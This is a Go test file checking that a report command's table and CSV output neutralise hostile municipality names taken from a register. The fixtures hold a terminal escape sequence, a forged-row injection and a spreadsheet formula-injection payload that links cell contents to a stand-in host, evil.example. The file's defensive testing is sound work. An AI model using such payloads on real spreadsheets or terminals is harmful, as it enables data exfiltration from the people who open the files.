package main

import (
	"encoding/csv"
	"strconv"
	"strings"
	"testing"

	"github.com/viaa/ppp/domain"
	"github.com/viaa/ppp/domain/i18n"
	"github.com/viaa/ppp/domain/plain"
)

// TestReportTable_StoredTextIsOneField proves that `ppp report`'s table
// format draws a group's text (a municipality's name from the Population
// Register mirror: a register value) as one field: a line break in it
// cannot forge a row of figures, an escape sequence is dropped, and a
// 100 KB name is cut to a line.
func TestReportTable_StoredTextIsOneField(t *testing.T) {
	hostile := "Rīga\nMunicipality\tForged\t999\x1b[2J" + strings.Repeat("x", 100_000)
	r := &domain.Report{Name: domain.ReportIMKUptake,
		Columns: []domain.ReportColumn{
			{Name: "group", Key: "report.col.group", Kind: domain.ColumnText},
			{Name: "applications", Key: "report.col.applications", Kind: domain.ColumnCount},
		},
		Rows: [][]domain.ReportCell{{{Text: hostile}, {Count: 1}}, {{Text: "Ogre"}, {Count: 2}}}}
	var b strings.Builder
	if err := writeReportTable(&b, i18n.For(i18n.EN), r); err != nil {
		t.Fatal(err)
	}
	lines := strings.Split(strings.TrimSuffix(b.String(), "\n"), "\n")
	if len(lines) != 4 { // title, header, two rows
		t.Fatalf("%d lines, want 4 (title, header, two rows):\n%.400s", len(lines), b.String())
	}
	if strings.Contains(b.String(), "\x1b") || strings.Contains(b.String(), "Forged\t") {
		t.Errorf("the table carries the stored text's escape or tab: %.300q", lines[2])
	}
	if n := len([]rune(lines[2])); n > plain.LineLimit+40 {
		t.Errorf("the row is %d characters long; a stored text is cut to %d", n, plain.LineLimit)
	}
	if !strings.HasPrefix(lines[3], "Ogre") {
		t.Errorf("the next row is %q, want Ogre's", lines[3])
	}
}

// TestReportCSV_StoredTextNeverAFormula proves that a group's text from a
// register (a municipality's name) that starts like a spreadsheet formula
// (=, +, -, @, a tab or a carriage return) reaches the CSV as text, with
// an apostrophe before it, so that opening the file in a spreadsheet runs
// nothing; counts stay numbers and other text stays as it was.
func TestReportCSV_StoredTextNeverAFormula(t *testing.T) {
	r := &domain.Report{Name: domain.ReportIMKUptake,
		Columns: []domain.ReportColumn{
			{Name: "group", Key: "report.col.group", Kind: domain.ColumnText},
			{Name: "applications", Key: "report.col.applications", Kind: domain.ColumnCount},
		},
		Rows: [][]domain.ReportCell{
			{{Text: `=HYPERLINK("http://evil.example/?"&A1,"Rīga")`}, {Count: 1}},
			{{Text: "+371 Ogre"}, {Count: 2}},
			{{Text: "@SUM(1)"}, {Count: 3}},
			{{Text: "-2+3"}, {Count: 4}},
			{{Text: "Ķekava, \"jaunā\""}, {Count: 5}},
		}}
	var b strings.Builder
	if err := writeReportCSV(&b, i18n.For(i18n.EN), r); err != nil {
		t.Fatal(err)
	}
	recs, err := csv.NewReader(strings.NewReader(b.String())).ReadAll()
	if err != nil {
		t.Fatal(err)
	}
	want := []string{`'=HYPERLINK("http://evil.example/?"&A1,"Rīga")`, "'+371 Ogre", "'@SUM(1)", "'-2+3", "Ķekava, \"jaunā\""}
	for i, w := range want {
		if recs[i+1][0] != w || recs[i+1][1] != strconv.Itoa(i+1) {
			t.Errorf("row %d = %q, want [%q %d]", i+1, recs[i+1], w, i+1)
		}
	}
}
